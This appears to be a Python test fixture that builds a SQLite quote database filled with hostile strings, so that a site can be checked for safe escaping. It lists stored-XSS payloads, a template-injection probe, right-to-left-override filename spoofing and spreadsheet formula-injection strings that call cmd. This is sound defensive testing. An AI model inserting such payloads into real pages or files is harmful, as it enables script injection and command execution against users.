"""A database of articles that somebody wrote to do harm: built as any other, from a file."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Sequence
from contextlib import closing
from datetime import date
from hashlib import blake2b
from pathlib import Path

from onrecord.build import build
from onrecord.models import Article, Authority, Day, Quote, Segment, Span, Speaker

__all__ = ["FORMULAS", "HOSTILE", "OVERRIDE", "article_of", "make_sample", "quote_of"]

OVERRIDE = "\u202e"
"""The character that turns what follows it back to front."""

FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1,"press here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
"""Texts that a spreadsheet takes for formulas."""

HOSTILE = (
    "<script>alert('stored')</script>",
    "</title><script>alert('stored')</script>",
    "<img src=x onerror=alert('stored')>",
    "<svg/onload=alert('stored')>",
    "' onmouseover=alert('stored') x='",
    '" onmouseover="alert(\'stored\')" x="',
    "javascript:alert('stored')",
    "{{ 7 * 191 }}{% raw %}",
    f"I did {OVERRIDE}ton{OVERRIDE} agree",
    "no\u200bthing \u2066hidden\u2069 here\ufeff",
    *FORMULAS,
)
"""Words and names of the sample."""

_SAID = re.compile(r"“(?P<words>[^”]+)” said (?P<speaker>.+?)\.$", re.MULTILINE)
_LINKS = (
    "javascript:alert('stored')",
    "data:text/html,<script>alert('stored')</script>",
    "https://example.com/\"onmouseover=\"alert('stored')",
    " https://example.com/\u202egpj.exe",
)
_LONG_WORDS = 240_000


class _Reader:
    """Finds the quotations of the sample, which are all of one shape."""

    model = "none"
    identity = "hostile sample"

    def __call__(self, articles: Sequence[Article]) -> list[tuple[Quote, ...]]:
        return [tuple(_quotes(article)) for article in articles]


def _quotes(article: Article) -> list[Quote]:
    found = []
    for said in _SAID.finditer(article.text):
        words, name = Span(*said.span("words")), said["speaker"]
        found.append(
            Quote(
                id=_key(article.id, words.start),
                article=article.id,
                kind="direct",
                text=said["words"],
                segments=(Segment(words, True),),
                content=(words,),
                cue=(),
                mention=(Span(*said.span("speaker")),),
                speaker=Speaker(name, "person", role=name),
                day=Day(date(2024, 3, 4), date(2024, 3, 4), date(2024, 3, 4), "stated", "Monday"),
                confidence=0.9,
                rule="sample",
            )
        )
    return found


def _key(article: str, start: int) -> str:
    return blake2b(f"{article} {start}".encode(), digest_size=8).hexdigest()


def article_of(n: int) -> str:
    """The id of the article that has the ``n``-th hostile text everywhere."""
    return _id(n, HOSTILE[n])


def quote_of(n: int) -> str:
    """The id of that article's first quote."""
    return _key(article_of(n), 1)


def make_sample(folder: Path) -> Path:
    """Build the database in a folder, and give its path."""
    sources, place = folder / "sources", folder / "served"
    sources.mkdir(parents=True)
    place.mkdir()
    source = sources / "hostile.jsonl"
    with source.open("w", encoding="utf-8") as lines:
        for n, bad in enumerate(HOSTILE):
            text = f"“{bad}” said {bad}.\n\nIt was Monday. {bad}\n\n“We agree” said Ann Bell."
            record = {"id": _id(n, bad), "text": text, "published": "2024-03-05"}
            print(json.dumps(record), file=lines)
        long = {"id": "long", "text": "boats and cranes " * (_LONG_WORDS // 3)}
        print(json.dumps(long | {"published": "2024-03-05"}), file=lines)
    path = place / "quotes.db"
    report = build([source], path, authority=Authority(), extractor=_Reader())
    if report.failures:
        raise RuntimeError(str(report.failures[0]))
    _spoil(path)
    return path


def _id(n: int, bad: str) -> str:
    return f"a{n}{bad}" if bad.isprintable() else f"a{n}"


def _spoil(path: Path) -> None:
    """Put in what a build refuses; the site may be given a database that was made otherwise."""
    sql = "update articles set title = ?, publisher = ?, author = ?, url = ? where id = ?"
    with closing(sqlite3.connect(path)) as connection, connection:
        for n, bad in enumerate(HOSTILE):
            link = _LINKS[n % len(_LINKS)]
            connection.execute(sql, (bad, bad, bad, link, _id(n, bad)))
